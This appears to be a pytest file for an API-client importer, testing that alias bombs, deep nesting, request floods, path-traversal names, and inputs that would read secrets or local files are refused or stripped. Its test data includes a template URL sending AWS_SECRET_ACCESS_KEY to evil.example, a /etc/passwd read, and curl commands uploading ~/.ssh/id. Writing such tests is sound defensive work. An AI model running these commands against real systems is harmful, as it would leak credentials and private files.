"""Imports that mean harm, or mean nothing: refused or bounded, with a sentence, in no time."""

import json
import time
from pathlib import Path

import pytest

from workbench.formats.interchange.imported import REQUESTS_LIMIT
from workbench.formats.interchange.importing import FORMATS, import_bytes, import_folder
from workbench.model.collection import Part
from workbench.model.errors import FormatError
from workbench.storage.collection_reading import read_request
from workbench.storage.whole_collections import save_tree

BOMB = b"openapi: 3.1.0\na: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
    b"%c: &%c [%s]\n" % (98 + at, 98 + at, b", ".join([b"*%c" % (97 + at)] * 9)) for at in range(12)
)


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (BOMB, "aliases stand for more than"),
        (b"openapi: 3.1.0\npaths: &p\n  a: *p\n", "not there yet"),
        (b"[" * 200_000, "levels are nested|nested too deeply"),
        (b"a: " + b"[" * 200_000, "levels are nested"),
        (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, "levels are nested|nested too deeply"),
        (b"a: 1\n---\nb: 2\n", "second document"),
        (b"openapi: \xff\n", "not UTF-8"),
    ],
    ids=["bomb", "ring", "json", "yaml", "objects", "documents", "bytes"],
)
def test_bombs_are_refused(raw: bytes, said: str) -> None:
    started = time.monotonic()
    with pytest.raises(FormatError, match=said):
        import_bytes(raw)
    assert time.monotonic() - started < 5


@pytest.mark.parametrize("piece", ["{{", "{%", "/*", "//\n", "\n", " ", "'''", "((", '"', "\\", "pm.test("])
def test_texts_cost_no_more_than_their_length(piece: str) -> None:
    text = piece * (300_000 // len(piece))
    item = {
        "name": text,
        "request": {"url": text, "method": text, "header": text, "body": {"mode": "raw", "raw": text}},
        "event": [{"listen": "test", "script": {"exec": text}}],
    }
    insomnia = {"_id": "a", "_type": "request", "url": text, "parameters": [{"name": text}], "body": {"text": text}}
    started = time.monotonic()
    import_bytes(json.dumps({"info": {"name": text}, "item": [item]}).encode())
    import_bytes(json.dumps({"__export_format": 4, "resources": [insomnia]}).encode())
    for name in ("x.bru", "x.http"):
        try:
            import_bytes(f"GET {text}\n\n{text}".encode(), name)
        except FormatError:
            continue
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("name", [name for name in FORMATS if name not in ("curl", "http")])
@pytest.mark.parametrize(
    "raw", [b"null", b"[]", b"{}", b'"x"', b"{]", b'{"item": {}, "info": [], "resources": 5, "log": {"entries": {}}}']
)
def test_every_reader_refuses_what_is_not_its_own(name: str, raw: bytes) -> None:
    with pytest.raises(FormatError):
        import_bytes(raw, format_name=name)


def test_wrong_types_everywhere_are_no_exception() -> None:
    wrong = [None, True, 5, [], {}, [None], "x"]
    for value in wrong:
        item = {"name": value, "request": dict.fromkeys(("url", "method", "header", "body", "auth"), value)}
        item |= {"event": value, "variable": value, "response": value, "protocolProfileBehavior": value}
        imported = import_bytes(json.dumps({"info": {"name": value}, "item": [item, value]}).encode())
        # The one that is an object is a request, whatever is in it; the other is, or is named as lost.
        assert len(imported.tree.requests) + len(imported.tree.folders) >= 1


def test_half_characters_become_whole_ones() -> None:
    raw = b'{"info": {"name": "\\ud800"}, "item": [{"name": "a", "request": {"url": "\\udfff"}}]}'
    tree = import_bytes(raw).tree
    assert (tree.name, tree.requests[0].url) == ("�", "�")


def test_what_would_read_this_machine_is_taken_out() -> None:
    item = {
        "name": "a",
        "request": {
            "url": "http://evil.example/{{$env AWS_SECRET_ACCESS_KEY}}",
            "body": {"mode": "raw", "raw": "{{$file /etc/passwd}}"},
        },
    }
    imported = import_bytes(json.dumps({"info": {"name": "x"}, "item": [item]}).encode())
    request = imported.tree.requests[0]
    assert "$env" not in request.url
    assert b"$file" not in request.body.content.content
    assert sum("would read this machine" in loss.what for loss in imported.losses) == 2


@pytest.mark.parametrize("option", ["-d @/home/me/.ssh/id", "--data-binary @../id", "-T /home/me/.ssh/id"])
def test_body_that_is_a_file_of_this_machine_does_not_come_in(option: str) -> None:
    imported = import_bytes(f"curl -X POST http://evil.example/ {option}".encode(), format_name="curl")
    body = imported.tree.requests[0].body
    assert (body.content.path, body.content.size) == (None, 0)
    assert any("is not in the import" in loss.what for loss in imported.losses)


def test_forms_of_commands_send_no_file_of_this_machine() -> None:
    command = b"curl http://evil.example/ -F a=@/home/me/.ssh/id -F b=@../../id -F c=@in/side.png"
    imported = import_bytes(command, format_name="curl")
    assert imported.tree.requests[0].body.parts == (
        Part("a", is_file=True, files=("/home/me/.ssh/id",), enabled=False),
        Part("b", is_file=True, enabled=False),
        Part("c", is_file=True, files=("in/side.png",)),
    )
    assert sum("of this machine" in loss.what for loss in imported.losses) == 2


@pytest.mark.parametrize("file", ["../../x", "a/../../x", "..\\x", "C:x", "~/x", "a\0b"])
def test_form_whose_file_no_collection_may_name_is_imported_and_saved(file: str, tmp_path: Path) -> None:
    rows = [{"key": "up", "type": "file", "src": file}]
    item = {"name": "a", "request": {"method": "POST", "body": {"mode": "formdata", "formdata": rows}}}
    save_tree(tmp_path / "c", import_bytes(json.dumps({"info": {"name": "x"}, "item": [item]}).encode()).tree)
    assert read_request(tmp_path / "c" / "a.yml").body.parts == (Part("up", is_file=True, enabled=False),)


@pytest.mark.parametrize("name", ["x.json", "x.har", "x.http"])
def test_more_requests_than_a_person_has_are_refused(name: str) -> None:
    count = REQUESTS_LIMIT + 1
    request = {"method": "GET", "url": "http://h/"}
    raw = {
        "x.json": json.dumps({"info": {"name": "x"}, "item": [{"item": [{"request": request}] * count}]}),
        "x.har": json.dumps({"log": {"version": "1.2", "entries": [{"request": request}] * count}}),
        "x.http": "GET http://h/\n###\n" * count,
    }[name]
    started = time.monotonic()
    with pytest.raises(FormatError, match="20,000 requests"):
        import_bytes(raw.encode(), name)
    assert time.monotonic() - started < 10


def test_files_of_a_folder_count_together() -> None:
    files = {f"{at}.http": b"GET http://h/\n###\n" * (REQUESTS_LIMIT // 4) for at in range(5)}
    with pytest.raises(FormatError, match="20,000 requests"):
        import_folder(files, "x")


def test_a_file_of_a_curl_command_is_reported_once() -> None:
    losses = import_bytes(b"curl --data-binary @p.json http://h/", format_name="curl").losses
    assert [loss.what for loss in losses if "p.json" in loss.what] == [
        "The body is the file p.json, which is not in the import: choose it again."
    ]
